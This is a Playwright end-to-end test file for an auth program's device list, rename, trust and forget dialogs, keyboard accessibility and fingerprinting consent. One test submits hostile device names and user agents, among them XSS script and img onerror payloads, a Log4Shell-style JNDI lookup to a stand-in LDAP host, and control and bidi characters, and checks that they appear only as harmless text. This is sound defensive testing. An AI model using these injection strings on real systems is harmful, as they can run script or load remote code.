import type { Locator, Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { administrator, type RunningProgram, startAdministered } from '../running-program.ts'
import { temporaryFolder } from '../temporary-folder.ts'
import { Visitor } from '../visitor.ts'
import { administeredForThisFile, forgetAdministrator } from './administered-program.ts'
import {
  browserForThisFile,
  confirm,
  expectAccessible,
  expectRows,
  type Look,
  looks,
  signIn,
} from './console-page.ts'

const open = browserForThisFile()
const administered = administeredForThisFile()
const phone: Look = { name: 'phone, dark', width: 390, colorScheme: 'dark' }

const safari =
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15'

/** Somebody signs in with another browser, and calls it something. */
async function anotherDevice(
  program: RunningProgram,
  name: string | null,
  userAgent = safari,
): Promise<string> {
  const visitor = new Visitor(program.url)
  const answer = await visitor.send('POST', '/api/v1/auth/login', administrator, { 'user-agent': userAgent })
  expect(answer.status, answer.text).toBe(200)
  const id = /dev_[a-z\d]+/.exec(visitor.deviceCookie ?? '')?.[0] ?? ''
  if (name !== null) {
    const named = await visitor.send('PATCH', `/api/v1/security/devices/${id}`, { name })
    expect(named.status, named.text).toBe(200)
  }
  return id
}

function deviceRows(page: Page): Locator {
  return page.getByRole('list', { name: 'Your devices' }).getByRole('listitem')
}

async function expectDevices(page: Page, count: number): Promise<void> {
  await expect.poll(() => deviceRows(page).count(), { timeout: 30_000 }).toBe(count)
}

/** Settings → Security, with `count` devices in sight. */
async function openDevices(program: RunningProgram, count: number, look?: Look): Promise<Page> {
  const page = await open(look)
  await page.goto(`${program.url}/settings/security`)
  await signIn(page, administrator)
  await expectRows(page, count)
  await expectDevices(page, count)
  return page
}

function menuOf(page: Page, name: string): Locator {
  return page.getByRole('button', { name: new RegExp(`^Actions for the device ${name}`) })
}

/** The name of what has the focus. */
function focused(page: Page): Promise<string> {
  return page.evaluate(() => {
    const element = document.activeElement
    return element?.getAttribute('aria-label') ?? element?.textContent?.trim() ?? ''
  })
}

async function press(page: Page, key: string, until: RegExp): Promise<void> {
  for (let presses = 0; presses < 80; presses += 1) {
    if (until.test(await focused(page))) return
    await page.keyboard.press(key)
  }
  throw new Error(`${key} does not come to ${until}; it stands at '${await focused(page)}'.`)
}

/** Opens the menu that has the focus and takes the entry of it, by keyboard. */
async function choose(page: Page, entry: RegExp): Promise<void> {
  await page.keyboard.press('Enter')
  await page.getByRole('menu').waitFor()
  await press(page, 'ArrowDown', entry)
  await page.keyboard.press('Enter')
}

function said(page: Page, text: string): Promise<void> {
  return page.getByRole('status').filter({ hasText: text }).waitFor()
}

// Each theme and each width once: those of the page itself are seen in all four.
it.each(looks.slice(1, 3))(
  '$name: the devices, their menu and each of its dialogs are accessible',
  async (look) => {
    const program = await forgetAdministrator(administered())
    await anotherDevice(program, 'A name of sixty characters, which is as long as one may be …')
    const page = await openDevices(program, 2, look)
    await expectAccessible(page)

    const menu = menuOf(page, 'A name of sixty')
    await menu.click()
    await page.getByRole('menuitem', { name: 'Forget device…' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('menuitem', { name: 'Rename device…' }).click()
    const field = page.getByRole('dialog', { name: 'Rename device' }).getByLabel('Name')
    await field.fill('x'.repeat(61))
    await field.press('Enter')
    await page.getByText('A name has at most 60 characters').waitFor()
    await expectAccessible(page)
    await page.keyboard.press('Escape')

    await menu.click()
    await page.getByRole('menuitem', { name: 'Forget device…' }).click()
    await page.getByRole('alertdialog', { name: 'Forget this device?' }).waitFor()
    await expectAccessible(page)
    await confirm(page, 'Forget device')
    await expectDevices(page, 1)
  },
)

it('by keyboard alone: a device renamed, trusted and forgotten, the focus never lost', async () => {
  const program = await forgetAdministrator(administered())
  await anotherDevice(program, null)
  const page = await openDevices(program, 2)
  await press(page, 'Tab', /^Actions for the device Safari on macOS/)

  await choose(page, /^Rename device/)
  const dialog = page.getByRole('dialog', { name: 'Rename device' })
  await dialog.waitFor()
  await page.keyboard.type('x'.repeat(61))
  await press(page, 'Tab', /^Save$/)
  await page.keyboard.press('Enter')
  await expect.poll(() => dialog.getByLabel('Name').evaluate((field) => field.matches(':focus'))).toBe(true)
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.type('Studio')
  await page.keyboard.press('Enter')
  await dialog.waitFor({ state: 'detached' })
  await said(page, 'The device is shown as Studio.')
  await expect.poll(() => focused(page)).toMatch(/^Actions for the device Studio, Safari on macOS/)

  await choose(page, /^Trust for 30 days/)
  await said(page, 'Studio is trusted until')
  await expect.poll(() => focused(page)).toMatch(/^Actions for the device Studio/)

  await choose(page, /^Forget device/)
  await page.getByRole('alertdialog').waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('alertdialog').waitFor({ state: 'detached' })
  await expect.poll(() => focused(page)).toMatch(/^Actions for the device Studio/)
  await choose(page, /^Forget device/)
  await press(page, 'Tab', /^Forget device$/)
  await page.keyboard.press('Enter')
  await expectDevices(page, 1)
  await said(page, 'Studio is forgotten.')
  await expect.poll(() => focused(page)).toMatch(/^Actions for the device (?!Studio)/)
})

it('two devices that look the same have buttons that a screen reader tells apart', async () => {
  const program = await forgetAdministrator(administered())
  await anotherDevice(program, null)
  await anotherDevice(program, null)
  const page = await openDevices(program, 3)
  const buttons = page.getByRole('main').getByRole('button')
  const names = await buttons.evaluateAll((found) =>
    found.map((button) => button.getAttribute('aria-label') ?? button.textContent),
  )
  expect(new Set(names).size, names.join('\n')).toBe(names.length)
})

it('consent is given by keyboard, and the browser is then looked at', async () => {
  const program = await startAdministered(temporaryFolder(), { LATCHKEY_FINGERPRINTING: 'consent' })
  const page = await openDevices(program, 1, phone)
  // Without a screen, the browser is not idle after a key before the page has waited its longest, nine times over.
  await page.evaluate(() => {
    window.requestIdleCallback = (run) => window.setTimeout(run, 0)
  })
  const question = page.getByRole('heading', { name: /^May we recognise this browser/ })
  await question.waitFor()
  await expectAccessible(page)

  await press(page, 'Tab', /^No, thank you$/)
  await page.keyboard.press('Enter')
  await question.waitFor({ state: 'detached' })
  await expectAccessible(page)
  await press(page, 'Tab', /^Reconsider$/)
  await page.keyboard.press('Enter')
  await press(page, 'Tab', /^Recognise this browser$/)
  await page.keyboard.press('Enter')
  await question.waitFor({ state: 'detached', timeout: 30_000 })
  await said(page, 'This browser will be recognised.')
  await expect.poll(() => focused(page)).toBe('Your devices')
  const state = await page.evaluate(async () => (await fetch('/api/v1/security/fingerprint')).json())
  expect(state).toMatchObject({ mode: 'consent', taken_at: expect.any(String) })
})

it('a device that is forgotten in one tab goes from another', async () => {
  const program = await forgetAdministrator(administered())
  await anotherDevice(program, 'Studio')
  const first = await openDevices(program, 2)
  const second = await first.context().newPage()
  await second.goto(`${program.url}/settings/security`)
  await expectDevices(second, 2)
  await menuOf(first, 'Studio').click()
  await first.getByRole('menuitem', { name: 'Forget device…' }).click()
  await confirm(first, 'Forget device')
  await expectDevices(second, 1)
  await expectRows(second, 1)
})

it('names and user agents that are meant to do harm appear as text, and turn nothing around', async () => {
  const program = await forgetAdministrator(administered())
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what log libraries are attacked with
  const lookup = '${jndi:ldap://192.0.2.1/a}'
  const names = ['<img src=x onerror="document.title=1">', lookup, 'جهاز الحاسوب 👩‍💻']
  for (const name of names) await anotherDevice(program, name)
  const header = `<script>document.title=1</script>\u009b31m ${lookup} \u00e2\u0080\u00ae/1.0`
  await anotherDevice(program, null, header)
  const page = await openDevices(program, 5)
  for (const name of names) await deviceRows(page).getByText(name, { exact: true }).waitFor()
  await page.goto(`${program.url}/admin/sessions`)
  await page.locator('[data-row]').first().waitFor()
  expect(await page.title()).toMatch(/Latchkey/)
  expect(await page.locator('main img, main script').count()).toBe(0)
  // Neither control characters nor those that turn the direction of text around.
  const text = (await page.locator('main').textContent()) ?? ''
  expect(text.replaceAll(/[\n\t]/g, '').match(/\p{Cc}|[\u202a-\u202e\u2066-\u2069]/gu)).toBeNull()
})

it('the devices of a user, and what the program finds wrong with itself, are accessible to administrators', async () => {
  const program = await forgetAdministrator(administered())
  await anotherDevice(program, 'Studio')
  const page = await open(phone)
  const finding = { check: 'addresses', message: 'All come from one address.', remedy: 'Name the proxy.' }
  await page.route('**/api/v1/admin/findings', (route) => route.fulfill({ json: { findings: [finding] } }))
  await page.goto(`${program.url}/admin/sessions`)
  await signIn(page, administrator)
  await page.getByText('All come from one address.').waitFor()
  await expectAccessible(page)
  await page
    .getByRole('button', { name: /^Actions/ })
    .first()
    .click()
  await page.getByRole('menuitem', { name: 'Devices of this user…' }).click()
  const dialog = page.getByRole('dialog', { name: `Devices of ${administrator.email}` })
  await dialog.getByRole('button', { name: /^Forget Studio/ }).click()
  await expect.poll(() => focused(page)).toBe('Keep')
  await expectAccessible(page)
  await dialog.getByRole('button', { name: 'Forget device' }).press('Enter')
  await expect.poll(() => dialog.getByRole('listitem').count()).toBe(1)
  await expect.poll(() => dialog.evaluate((element) => element.contains(document.activeElement))).toBe(true)
  await page.keyboard.press('Escape')
  await dialog.waitFor({ state: 'detached' })
  await expect.poll(() => focused(page)).toMatch(/^Actions/)
})
